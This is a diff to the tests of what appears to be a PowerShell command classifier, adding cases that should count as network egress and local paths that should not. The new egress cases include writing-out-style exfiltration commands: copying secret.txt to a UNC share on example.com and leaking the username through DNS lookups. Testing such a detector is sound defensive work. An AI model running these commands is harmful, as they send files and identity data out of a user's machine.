@@ -20,6 +20,9 @@ describe('PowerShell', () => {
     'certutil -urlcache -f http://x a',
     'aws s3api put-object',
     'docker push x',
+    'Copy-Item secret.txt \\\\example.com\\share\\x',
+    'Get-Content "\\\\$(whoami).example.com\\x"',
+    '[System.Net.Dns]::GetHostAddresses("$x.example.com")',
     '$c = New-Object System.Net.Sockets.TCPClient("h",1)',
   ])('egress: %s', (command) => {
     expect(classifyPowerShell(command).kind).toBe('egress')
@@ -33,6 +36,8 @@ describe('PowerShell', () => {
     '',
     'git stash; echo pushed',
     'Get-Content curly.txt',
+    'Get-Content C:\\Users\\x\\a.txt',
+    'Select-String "a\\\\b" x',
   ])('a script at least: %s', (command) => {
     expect(classifyPowerShell(command)).toEqual({ kind: 'script', because: 'PowerShell runs a script' })
   })
